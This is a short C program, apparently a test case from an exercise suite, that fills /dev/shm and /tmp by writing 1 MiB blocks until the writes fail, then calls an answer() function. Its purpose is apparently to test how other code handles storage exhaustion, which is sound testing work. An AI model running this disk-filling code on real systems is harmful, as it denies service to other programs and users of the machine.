#include "attack.h"

int	main(void)
{
	static char	block[1 << 20];
	int			shm = open("/dev/shm/big", O_CREAT | O_RDWR, 0600);
	int			tmp = open("/tmp/big", O_CREAT | O_RDWR, 0600);

	while (write(shm, block, sizeof block) > 0)
		;
	while (write(tmp, block, sizeof block) > 0)
		;
	answer();
}
